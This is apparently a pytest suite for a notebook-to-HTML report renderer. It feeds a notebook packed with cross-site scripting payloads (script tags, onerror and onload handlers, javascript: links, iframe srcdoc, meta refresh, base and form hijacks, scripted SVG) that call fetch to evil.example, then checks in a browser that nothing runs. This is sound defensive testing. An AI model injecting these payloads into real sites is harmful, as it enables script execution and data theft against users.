"""A notebook of unknown origin, opened by a reader: nothing of it runs in a real browser."""

from __future__ import annotations

from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from pipeline.errors import FigureError
from pipeline.figures.contract import FIGURE_MIME, PROSE_MIME, TABLE_MIME
from pipeline.reports.chapter import ChapterRenderer, environment, new_exporter
from pipeline.reports.scripts import TEMPLATES

#: Whatever runs leaves its mark on the window and asks the network.
MARK = "(window.hacked=window.hacked||[]).push(1),fetch('https://evil.example/')"
ATTACKS = (
    f"<script>{MARK}</script>",
    f'"><img src=x onerror="{MARK}">',
    f'\'><svg onload="{MARK}"></svg>',
    f"</script></style></title></textarea><script>{MARK}</script>",
    f'<a id="klick" href="javascript:{MARK}">Klick</a>',
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><form action="https://evil.example/"><button>b</button>',
)
ALL = " ".join(ATTACKS)
#: A picture that is a program; shown as an image, it must stay one.
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'
PNG = "iVBORw0KGgo="
MARKDOWN = f"""# Titel {ALL}

## Abschnitt {ALL}

{ALL}

[klick](javascript:{MARK}) [klick](JaVaScRiPt:{MARK})
[klick](data:text/html,<script>{MARK}</script>)
[klick](vbscript:{MARK}) <javascript:{MARK}> ![bild](https://evil.example/x.png "{ALL}")
![x"onerror="{MARK}](x) `{ALL}` $<script>{MARK}</script>$

[klick][ziel]

[ziel]: javascript:{MARK}

| a{ALL} | b |
|---|---|
| {ALL.replace("|", "")} | 1 |
"""


def contract(name: str) -> dict[str, object]:
    """All parts of the figure contract, each of them hostile."""
    return {
        "id": name, "title": ALL, "caption": ALL, "alt": ALL, "level": ALL, "attribution": ALL,
        "sources": [ALL],
        "notes": [ALL], "columns": [ALL, "Wert"], "rows": [[ALL, ALL], ["a", "1"]],
    }  # fmt: skip


def hostile_notebook(path: Path, name: str = "dichte") -> Path:
    outputs = [
        new_output("display_data", data={
            FIGURE_MIME: contract(name), "image/svg+xml": SVG, "image/png": PNG,
            "text/html": ALL, "text/plain": ALL,
        }),
        new_output("display_data", data={TABLE_MIME: contract(f"{name}-2"), "text/html": ALL}),
        new_output("display_data", data={PROSE_MIME: {
            "tone": "finding", "sentences": [ALL, *ATTACKS],
            "findings": [{"sources": [ALL]}],
        }}),
        new_output("display_data", data={PROSE_MIME: {
            "tone": f'limits"><script>{MARK}</script>', "sentences": [ALL], "findings": [],
        }}),
        new_output("display_data", data={"text/html": ALL, "application/javascript": MARK}),
        new_output("display_data", data={"text/markdown": ALL, "text/latex": ALL}),
        new_output("display_data", data={"image/svg+xml": SVG}),
        new_output("stream", text=ALL),
        new_output("error", ename=ALL, evalue=ALL, traceback=[ALL]),
    ]  # fmt: skip
    cells = [new_markdown_cell(MARKDOWN), new_code_cell(f"x = '''{ALL}'''", outputs=outputs)]
    notebook = new_notebook(cells=cells, metadata={"title": ALL, "kernelspec": {
        "name": ALL, "display_name": ALL, "language": ALL,
    }})  # fmt: skip
    path.write_text(nbformat.writes(notebook), encoding="utf-8")
    return path


def page_of(html: str, *, policy: str = "") -> str:
    """A page around `html`; without the policy the HTML alone must be harmless."""
    head = f'<!DOCTYPE html><html lang="de"><head><meta charset="utf-8">{policy}</head>'
    return f"{head}<body>{html}</body></html>"


@pytest.mark.browser
def test_a_hostile_notebook_runs_nothing_and_asks_nobody(browser, tmp_path: Path) -> None:
    """Without the Content-Security-Policy, which is the second wall behind this one."""
    notebook = hostile_notebook(tmp_path / "kapitel.ipynb")
    chapter = ChapterRenderer(new_exporter(), environment()).render(notebook, "kapitel")
    page = tmp_path / "seite.html"
    page.write_text(page_of(chapter.html), encoding="utf-8")
    view = browser.new_page()
    requests: list[str] = []
    view.on("request", lambda request: requests.append(request.url))
    view.goto(page.as_uri())
    # a reader who clicks on everything that does not openly lead to another page
    view.evaluate(
        "document.querySelectorAll('a:not([download]):not([href^=http]), button, summary')"
        ".forEach(node => node.click())"
    )
    view.wait_for_timeout(200)
    hacked = view.evaluate("window.hacked || null")
    active = view.evaluate(
        "[...document.querySelectorAll('script,iframe,object,embed,base,form,meta[http-equiv]')]"
        ".map(node => node.outerHTML)"
    )
    handlers = view.evaluate(
        "[...document.querySelectorAll('*')].flatMap(node => [...node.attributes]"
        ".filter(a => a.name.startsWith('on') || /^\\s*(javascript|vbscript):/i.test(a.value)"
        " && ['href', 'src', 'action'].includes(a.name)).map(a => node.outerHTML))"
    )
    address = view.url
    view.close()
    assert hacked is None
    assert active == []
    assert handlers == []
    assert address.partition("#")[0] == page.as_uri()
    foreign = [url for url in requests if not url.startswith(("file:", "data:"))]
    assert set(foreign) <= {"https://evil.example/x.png"}  # a picture in Markdown; see below


@pytest.mark.browser
def test_the_policy_of_the_page_is_a_second_wall(browser, tmp_path: Path) -> None:
    """Even markup that got through (put in here by hand) does not run, nor load anything."""
    template = (TEMPLATES / "base.html.j2").read_text(encoding="utf-8")
    (line,) = [part for part in template.splitlines() if "Content-Security-Policy" in part]
    policy = environment().from_string(line).render(script_hashes=["x"])
    page = tmp_path / "seite.html"
    refresh = 'http-equiv="refresh"'  # no script, and no page of ours can hold it (see above)
    picture = '<img src="https://evil.example/x.png">'
    hostile = page_of(ALL.replace(refresh, "") + picture, policy=policy)
    page.write_text(hostile, encoding="utf-8")
    view = browser.new_page()
    answered: list[str] = []
    view.on("response", lambda response: answered.append(response.url))
    view.goto(page.as_uri())
    view.evaluate("document.querySelector('#klick')?.click()")
    view.wait_for_timeout(200)
    hacked = view.evaluate("window.hacked || null")
    view.close()
    assert hacked is None
    assert [url for url in answered if not url.startswith(("file:", "data:", "about:"))] == []


def test_a_picture_for_saving_that_holds_a_program_is_refused(tmp_path: Path) -> None:
    """Opened on its own, an SVG file is a document whose scripts run."""
    notebook = hostile_notebook(tmp_path / "kapitel.ipynb")
    folder = tmp_path / "reports" / "bilder" / "lippe"
    renderer = ChapterRenderer(new_exporter(), environment(), folder)
    with pytest.raises(FigureError, match="holds a program"):
        renderer.render(notebook, "kapitel")
    assert list(folder.rglob("*.svg")) == []
